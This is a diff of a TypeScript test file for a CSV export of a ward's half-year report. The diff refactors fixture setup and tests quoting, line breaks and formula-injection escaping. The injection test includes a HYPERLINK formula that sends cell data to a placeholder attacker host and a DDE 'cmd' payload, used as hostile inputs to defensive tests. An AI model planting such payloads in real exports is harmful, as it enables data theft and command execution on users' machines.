@@ -1,6 +1,6 @@
-import type { PeriodicReport } from '../report.model';
+import type { PeriodicReport, ReportCellValue } from '../report.model';
 import { CSV_COLUMNS, renderCsv } from './csv';
-import { fixtureReport } from './report.fixture';
+import { columns, fixtureReport } from './report.fixture';
 
 /** A strict RFC 4180 reader: CRLF after every record, quoted fields with doubled quotes. */
 function parse(csv: string): string[][] {
@@ -52,6 +52,15 @@ function rows(report: PeriodicReport) {
   return { header, data: data.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
 }
 
+/** The lines of a report whose only table is one row: a text `k`, a number `n` and a text `t`. */
+function oneRowLines(title: string, [k, n, t]: string[], row: Record<string, ReportCellValue>) {
+  const report = fixtureReport();
+  report.sections = [];
+  const labels = [...columns('text', { k }), ...columns('number', { n }), ...columns('text', { t })];
+  report.annexes = [{ id: 'X', title, columns: labels, rows: [row] }];
+  return rows(report).data;
+}
+
 describe('renderCsv of a ward’s half-year report', () => {
   const { header, data } = rows(fixtureReport());
   const find = (table: string, row: number, column: string) =>
@@ -101,43 +110,27 @@ describe('renderCsv of a ward’s half-year report', () => {
     expect(csv).toContain(',"Báo chí, mạng xã hội (""tin nóng"")",reports,');
     expect(find('PL02-kenh', 4, 'reports')[0].row_label).toBe('Báo chí, mạng xã hội ("tin nóng")');
 
-    const report = fixtureReport();
-    report.sections = [];
-    report.annexes = [
-      {
-        id: 'X',
-        title: 'Hai dòng\r\ntiêu đề',
-        columns: [
-          { key: 'k', label: 'Khoản', kind: 'text' },
-          { key: 'n', label: 'Số', kind: 'number' },
-          { key: 'basis', label: 'Căn cứ', kind: 'text' },
-        ],
-        rows: [{ k: 'a', n: 1e-7, basis: 'Điều 6, "Luật Trẻ em"' }],
-      },
-    ];
-    const { data: lines } = rows(report);
+    const lines = oneRowLines('Hai dòng\r\ntiêu đề', ['Khoản', 'Số', 'Căn cứ'], {
+      k: 'a',
+      n: 1e-7,
+      t: 'Điều 6, "Luật Trẻ em"',
+    });
     expect(lines.map((l) => [l.table_title, l.row_label, l.column, l.kind, l.value])).toEqual([
       ['Hai dòng\r\ntiêu đề', 'a', 'n', 'number', '0.0000001'],
-      ['Hai dòng\r\ntiêu đề', 'a', 'basis', 'text', 'Điều 6, "Luật Trẻ em"'],
+      ['Hai dòng\r\ntiêu đề', 'a', 't', 'text', 'Điều 6, "Luật Trẻ em"'],
     ]);
   });
 
   it('writes no cell a spreadsheet would run as a formula, and keeps negative figures numbers', () => {
-    const report = fixtureReport();
-    report.sections = [];
-    report.annexes = [
+    const lines = oneRowLines(
+      '=HYPERLINK("http://attacker.example/?"&A1,"Nhấn")',
+      ['+1+1', '@SUM(A1)', 'Ghi chú'],
       {
-        id: 'Y',
-        title: '=HYPERLINK("http://attacker.example/?"&A1,"Nhấn")',
-        columns: [
-          { key: 'k', label: '+1+1', kind: 'text' },
-          { key: 'n', label: '@SUM(A1)', kind: 'number' },
-          { key: 't', label: 'Ghi chú', kind: 'text' },
-        ],
-        rows: [{ k: '-2+3', n: -5, t: '\t=cmd|" /C calc"!A0' }],
+        k: '-2+3',
+        n: -5,
+        t: '\t=cmd|" /C calc"!A0',
       },
-    ];
-    const { data: lines } = rows(report);
+    );
     const cells = lines.flatMap((l) => Object.values(l));
     expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && c !== '-5')).toEqual([]);
     expect(lines.map((l) => [l.table_title, l.row_label, l.column_label, l.value])).toEqual([
